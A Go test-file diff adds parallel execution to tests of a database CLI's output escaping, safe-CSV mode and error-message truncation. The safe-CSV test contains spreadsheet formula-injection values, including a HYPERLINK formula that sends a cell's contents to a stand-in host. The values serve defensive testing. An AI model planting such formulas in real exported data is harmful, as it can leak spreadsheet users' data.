@@ -55,6 +55,7 @@ func acting(out string, crlf bool) string {
 // DTrace layout) show a name a terminal would act on escaped, piped or
 // not; csv and json to a pipe are the data, byte for byte.
 func TestOutputForReadingEscapes(t *testing.T) {
+	t.Parallel()
 	dir := t.TempDir()
 	db := evilDB(t, dir)
 	for _, args := range [][]string{
@@ -165,6 +166,7 @@ func onTerminal(t *testing.T, dir string, args ...string) string {
 // reaches it: csv and json too (a user who types the command sees the
 // data, escaped; piped, it stays exact, see above).
 func TestTerminalOutput(t *testing.T) {
+	t.Parallel()
 	dir := t.TempDir()
 	db := evilDB(t, dir)
 	for _, c := range []struct {
@@ -197,6 +199,7 @@ func TestTerminalOutput(t *testing.T) {
 // @, or a tab or carriage return first) gets a leading '; numbers stay
 // numbers. Without it, the cells are the data.
 func TestSafeCSV(t *testing.T) {
+	t.Parallel()
 	dir := t.TempDir()
 	const q = `SELECT '=HYPERLINK("http://x/?"&A1,"y")' AS "=cmd", -5 AS n, -0.5 AS f, '-5' AS s, '@SUM(A1)' AS a, '+1' AS p, chr(9) || '=1' AS tab, chr(13) || '=1' AS cr, 'a=b' AS ok, NULL AS nul`
 	got := mustRun(t, dir, nil, "query", "--db", ":memory:", "-o", "csv", "--safe-csv", q)
@@ -221,6 +224,7 @@ func TestSafeCSV(t *testing.T) {
 // one line of at most maxMessage bytes before its escapes: its start and
 // its end, and how much was left out.
 func TestMessageCut(t *testing.T) {
+	t.Parallel()
 	var b bytes.Buffer
 	writeMessage(&b, "Conversion Error: Could not convert string '"+strings.Repeat("\x00", 2_000_000)+"' to INT32")
 	got := b.String()
